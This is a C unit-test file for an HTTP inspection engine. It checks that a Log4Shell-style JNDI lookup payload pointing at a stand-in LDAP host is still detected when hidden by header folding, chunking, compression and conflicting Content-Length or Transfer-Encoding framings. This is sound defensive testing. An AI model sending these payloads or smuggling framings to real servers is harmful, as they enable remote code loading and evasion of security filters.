/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The odd requests: whatever way the message is framed, folded or coded, the attack reaches a field in one
 * piece. Each row is fed whole, in small steps and cut at every byte. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>
#include <zlib.h>

#include "base/count.h"
#include "support/http_record.h"

#define ATTACK "${jndi:ldap://h/a}"

enum shape {
    AS_IS,
    CHUNKS,      /* of one byte each */
    EXTENSIONS,  /* ... with chunk extensions */
    LF_ONLY,     /* ... lines ended by LF */
    BLANKS,      /* ... blanks round the size */
    EMPTY_LINES, /* ... empty lines between chunks */
    ZEROS,       /* ... sizes with leading zeros */
    GZIP,
    ZLIB,
    DEFLATE, /* raw */
    TWO_MEMBERS,
    GZIP_CHUNKS, /* gzip in one-byte chunks */
    COMMENT,     /* the attack in the comment of a gzip header */
};

struct odd {
    const char *name;
    const char *head;
    enum shape shape;
    const char *body;
    enum field_kind where;
    enum {
        CLEAR,
        DOUBT
    } framing; /* DOUBT: counted as ambiguous, and in RAW as well when the bytes are together */
};

#define POST "POST /x HTTP/1.1\r\nHost: a\r\n"
#define BODY "q=" ATTACK "&z=1"

static const struct odd odds[] = {
    {"plain header", "GET / HTTP/1.1\r\nX: " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
    {"plain uri", "GET /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
    {"LF only", "GET / HTTP/1.1\nX: " ATTACK "\n\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
    {"CR only", "GET / HTTP/1.1\rX: " ATTACK "\r\rA", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, DOUBT},
    {"folded", "GET / HTTP/1.1\r\nX: 1\r\n " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
    {"folded with LF and tab", "GET / HTTP/1.1\nX:\n\t" ATTACK "\n\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER,
     CLEAR},
    {"first header folded", "GET / HTTP/1.1\r\n X: " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER,
     CLEAR},
    {"absolute URI", "GET http://a/" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
    {"HTTP/0.9", "GET /" ATTACK "\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
    {"empty lines first", "\r\n\r\n\nGET /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
    {"second request", "GET / HTTP/1.1\r\n\r\nGET /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI,
     CLEAR},
    {"after a body", POST "Content-Length: 3\r\n\r\nabcGET /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "",
     FIELD_HTTP_URI, CLEAR},
    {"expect", POST "Expect: 100-continue\r\nContent-Length: 24\r\n\r\n", AS_IS, BODY,
     FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"header name", "GET / HTTP/1.1\r\n" ATTACK ": v\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
    {"version", "GET / " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
    {"behind the version", "GET / HTTP/1.1" ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_PROTOCOL, CLEAR},
    {"method", ATTACK " / HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_METHOD, CLEAR},
    {"method with a blank", "${jndi:ldap://h/a } / HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER,
     CLEAR},
    {"unknown method", "FOO /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
    {"blanks in the line", "GET  /a b " ATTACK "\t HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
    {"tabs in the line", "GET\t/" ATTACK "\tHTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
    {"no colon", "GET / HTTP/1.1\r\nfoo " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
    {"empty name", "GET / HTTP/1.1\r\n: " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
    {"8-bit in the name", "GET / HTTP/1.1\r\nX\xff: " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER,
     CLEAR},
    {"percent in the name", "GET / HTTP/1.1\r\n%24%7b: " ATTACK "\r\n\r\n", AS_IS, "",
     FIELD_HTTP_REQUEST_HEADER, CLEAR},
    {"bad authorization", "GET / HTTP/1.1\r\nAuthorization: Basic ###\r\nX: " ATTACK "\r\n\r\n", AS_IS, "",
     FIELD_HTTP_REQUEST_HEADER, CLEAR},
    {"bare CR in a value", "GET / HTTP/1.1\r\nX: a\r" ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER,
     CLEAR},
    {"line ended by CR CR LF", "GET / HTTP/1.1\r\nA: b\r\r\nX: " ATTACK "\r\n\r\n", AS_IS, "",
     FIELD_HTTP_REQUEST_HEADER, CLEAR},
    {"two lengths", POST "Content-Length: 24\r\nContent-Length: 3\r\n\r\n", AS_IS, BODY,
     FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"two lengths, short first", POST "Content-Length: 3\r\nContent-Length: 24\r\n\r\n", AS_IS, BODY,
     FIELD_RAW, DOUBT},
    {"length +24", POST "Content-Length: +24\r\n\r\n", AS_IS, BODY, FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"length 24abc", POST "Content-Length: 24abc\r\n\r\n", AS_IS, BODY, FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"length -1", POST "Content-Length: -1\r\n\r\n", AS_IS, BODY, FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"length 0 with a body", POST "Content-Length: 0\r\n\r\n", AS_IS, BODY, FIELD_RAW, CLEAR},
    {"length too long to count", POST "Content-Length: 99999999999999999999\r\n\r\n", AS_IS, BODY,
     FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"blank before the colon", POST "Content-Length : 24\r\n\r\n", AS_IS, BODY, FIELD_HTTP_REQUEST_BODY,
     DOUBT},
    {"no length", "POST /x HTTP/1.0\r\n\r\n", AS_IS, BODY, FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"chunk size not hex", POST "Transfer-Encoding: chunked\r\n\r\n", AS_IS, "zz\r\n" BODY, FIELD_RAW, DOUBT},
    {"chunk size too big", POST "Transfer-Encoding: chunked\r\n\r\n", AS_IS, "fffffffffffffffff\r\n" BODY,
     FIELD_RAW, DOUBT},
    {"bytes behind chunks", POST "Transfer-Encoding: chunked\r\n\r\n", AS_IS, "0\r\n\r\n=" BODY, FIELD_RAW,
     CLEAR},
    {"one-byte chunks", POST "Transfer-Encoding: chunked\r\n\r\n", CHUNKS, BODY, FIELD_HTTP_REQUEST_BODY,
     CLEAR},
    {"... extensions", POST "Transfer-Encoding: chunked\r\n\r\n", EXTENSIONS, BODY, FIELD_HTTP_REQUEST_BODY,
     CLEAR},
    {"... LF", POST "Transfer-Encoding: chunked\r\n\r\n", LF_ONLY, BODY, FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"... blanks", POST "Transfer-Encoding: chunked\r\n\r\n", BLANKS, BODY, FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"... empty lines", POST "Transfer-Encoding: chunked\r\n\r\n", EMPTY_LINES, BODY, FIELD_HTTP_REQUEST_BODY,
     CLEAR},
    {"... zeros", POST "Transfer-Encoding: chunked\r\n\r\n", ZEROS, BODY, FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"... length first", POST "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n", CHUNKS, BODY,
     FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"... length last", POST "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n", CHUNKS, BODY,
     FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"... identity, chunked", POST "Transfer-Encoding: identity, chunked\r\n\r\n", CHUNKS, BODY,
     FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"... gzip, chunked", POST "Transfer-Encoding: gzip, chunked\r\n\r\n", CHUNKS, BODY,
     FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"... twice", POST "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n", CHUNKS, BODY,
     FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"... vertical tab", POST "Transfer-Encoding: \vchunked\r\n\r\n", CHUNKS, BODY, FIELD_HTTP_REQUEST_BODY,
     DOUBT},
    {"... xchunked", POST "Transfer-Encoding: xchunked\r\n\r\n", CHUNKS, BODY, FIELD_HTTP_REQUEST_BODY,
     DOUBT},
    {"... quoted", POST "Transfer-Encoding: \"chunked\"\r\n\r\n", CHUNKS, BODY, FIELD_HTTP_REQUEST_BODY,
     DOUBT},
    {"... folded", POST "Transfer-Encoding:\r\n chunked\r\n\r\n", CHUNKS, BODY, FIELD_HTTP_REQUEST_BODY,
     DOUBT},
    {"... HTTP/1.0", "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n", CHUNKS, BODY,
     FIELD_HTTP_REQUEST_BODY, DOUBT},
    {"chunk extension", POST "Transfer-Encoding: chunked\r\n\r\n1;a=\"" ATTACK "\"\r\na\r\n0\r\n\r\n", AS_IS,
     "", FIELD_HTTP_CHUNK_EXTENSION, CLEAR},
    {"extension of the last chunk", POST "Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0 " ATTACK "\r\n\r\n",
     AS_IS, "", FIELD_HTTP_CHUNK_EXTENSION, CLEAR},
    {"trailer", POST "Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX: " ATTACK "\r\n\r\n", AS_IS, "",
     FIELD_HTTP_REQUEST_HEADER, CLEAR},
    {"connect, then more", "CONNECT a:1 HTTP/1.1\r\n\r\n", AS_IS, "\1\2" ATTACK, FIELD_RAW, CLEAR},
    {"upgrade, then more", "GET / HTTP/1.1\r\nUpgrade: x\r\n\r\nGET /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "",
     FIELD_HTTP_URI, CLEAR},
    {"gzip", POST "Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n", GZIP_CHUNKS, BODY,
     FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"gzip to close", "POST / HTTP/1.0\r\nContent-Encoding: x-gzip\r\nContent-Length: 1000\r\n\r\n", GZIP,
     BODY, FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"deflate", POST "Content-Encoding: deflate\r\nContent-Length: 1000\r\n\r\n", ZLIB, BODY,
     FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"raw deflate", POST "Content-Encoding: deflate\r\nContent-Length: 1000\r\n\r\n", DEFLATE, BODY,
     FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"gzip called deflate", POST "Content-Encoding: deflate\r\nContent-Length: 1000\r\n\r\n", GZIP, BODY,
     FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"two gzip members", POST "Content-Encoding: gzip\r\nContent-Length: 1000\r\n\r\n", TWO_MEMBERS, BODY,
     FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"gzip, with a comment", POST "Content-Encoding: gzip\r\nContent-Length: 1000\r\n\r\n", COMMENT, BODY,
     FIELD_RAW, CLEAR},
    {"plain called gzip", POST "Content-Encoding: gzip\r\nContent-Length: 24\r\n\r\n", AS_IS, BODY,
     FIELD_HTTP_REQUEST_BODY, CLEAR},
    {"plain called br", POST "Content-Encoding: br\r\nContent-Length: 24\r\n\r\n", AS_IS, BODY,
     FIELD_HTTP_REQUEST_BODY, CLEAR},
};

static void add_deflated(struct buf *to, struct bytes plain, int bits, bool comment)
{
    uint8_t out[4096];
    z_stream z = {0};
    gz_header header = {.comment = (Bytef *)(uintptr_t)ATTACK};

    assert_int_equal(deflateInit2(&z, 6, Z_DEFLATED, bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
    if (comment)
        assert_int_equal(deflateSetHeader(&z, &header), Z_OK);
    z.next_in = (Bytef *)(uintptr_t)plain.p;
    z.avail_in = (uInt)plain.len;
    z.next_out = out;
    z.avail_out = sizeof out;
    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
    buf_add(to, bytes_of(out, sizeof out - z.avail_out));
    deflateEnd(&z);
}

static void add_chunks(struct buf *to, enum shape shape, struct bytes body)
{
    static const char *const starts[] = {
        [CHUNKS] = "1\r\n",     [EXTENSIONS] = "1;a=\"b\"\r\n", [LF_ONLY] = "1\n",
        [BLANKS] = " 1 \r\n",   [EMPTY_LINES] = "1\r\n",        [ZEROS] = "00000000000000000000001\r\n",
        [GZIP_CHUNKS] = "1\r\n"};
    static const char *const ends[] = {
        [LF_ONLY] = "\n", [EMPTY_LINES] = "\r\n\r\n\r\n", [GZIP_CHUNKS] = NULL};

    for (size_t i = 0; i < body.len; i++) {
        buf_add_str(to, starts[shape]);
        buf_add(to, bytes_slice(body, i, i + 1));
        buf_add_str(to, ends[shape] ? ends[shape] : "\r\n");
    }
    buf_add_str(to, "0\r\n\r\n");
}

static struct buf odd_bytes(const struct odd *odd)
{
    struct buf all = buf_within(65536), coded = buf_within(65536);
    struct bytes body = bytes_str(odd->body);

    buf_add_str(&all, odd->head);
    switch (odd->shape) {
    case AS_IS:
        buf_add(&all, body);
        break;
    case GZIP:
        add_deflated(&all, body, 15 + 16, false);
        break;
    case ZLIB:
        add_deflated(&all, body, 15, false);
        break;
    case DEFLATE:
        add_deflated(&all, body, -15, false);
        break;
    case TWO_MEMBERS:
        add_deflated(&all, BYTES_LIT("nothing"), 15 + 16, false);
        add_deflated(&all, body, 15 + 16, false);
        break;
    case COMMENT:
        add_deflated(&all, BYTES_LIT("nothing"), 15 + 16, true);
        break;
    case GZIP_CHUNKS:
        add_deflated(&coded, body, 15 + 16, false);
        add_chunks(&all, odd->shape, buf_bytes(&coded));
        break;
    default:
        add_chunks(&all, odd->shape, body);
    }
    buf_drop(&coded);
    return all;
}

static struct http_record *run(struct bytes all, size_t step)
{
    struct http_record *r = http_record_new();

    http_record_steps(r, 0, all, step);
    http_record_end(r);
    return r;
}

static void test_every_way_delivers(void **state)
{
    static const size_t steps[] = {1, 2, 3, 5, 17, 100};
    const struct bytes attack = BYTES_LIT("jndi:ldap://h/a");

    (void)state;
    for (size_t i = 0; i < sizeof odds / sizeof *odds; i++) {
        struct buf all = odd_bytes(&odds[i]);
        struct http_record *whole;

        count_reset();
        whole = run(buf_bytes(&all), all.len);
        if (!http_record_has(whole, odds[i].where, attack))
            fail_msg("%s: not in %s", odds[i].name, field_rows[odds[i].where].name);
        if ((counters[COUNT_HTTP_AMBIGUOUS] > 0) != (odds[i].framing == DOUBT))
            fail_msg("%s: framing", odds[i].name);
        for (size_t j = 0; j < sizeof steps / sizeof *steps; j++) {
            struct http_record *stepped = run(buf_bytes(&all), steps[j]);

            http_record_same(whole, stepped);
            http_record_free(stepped);
        }
        http_record_free(whole);
        buf_drop(&all);
    }
}

static void test_split_anywhere(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof odds / sizeof *odds; i++) {
        struct buf all = odd_bytes(&odds[i]);
        struct http_record *whole = run(buf_bytes(&all), all.len);

        for (size_t at = 1; at < all.len; at++) {
            struct http_record *r = http_record_new();

            http_record_feed(r, 0, bytes_slice(buf_bytes(&all), 0, at), 0, false);
            http_record_feed(r, 0, bytes_from(buf_bytes(&all), at), 0, false);
            http_record_end(r);
            http_record_same(whole, r);
            http_record_free(r);
        }
        http_record_free(whole);
        buf_drop(&all);
    }
}

static void test_cut_anywhere(void **state)
{
    const struct bytes attack = BYTES_LIT("jndi:ldap://h/a");

    (void)state;
    for (size_t i = 0; i < sizeof odds / sizeof *odds; i++) {
        struct buf all = odd_bytes(&odds[i]);

        for (size_t at = 0; at <= all.len; at++) {
            struct http_record *cut = run(bytes_slice(buf_bytes(&all), 0, at), 4096);

            if (odds[i].shape == AS_IS &&
                bytes_find(bytes_slice(buf_bytes(&all), 0, at), attack) != BYTES_NONE &&
                !http_record_delivers(cut, attack))
                fail_msg("%s: lost when cut at %zu", odds[i].name, at);
            http_record_free(cut);
        }
        buf_drop(&all);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_every_way_delivers),
        cmocka_unit_test(test_split_anywhere),
        cmocka_unit_test(test_cut_anywhere),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
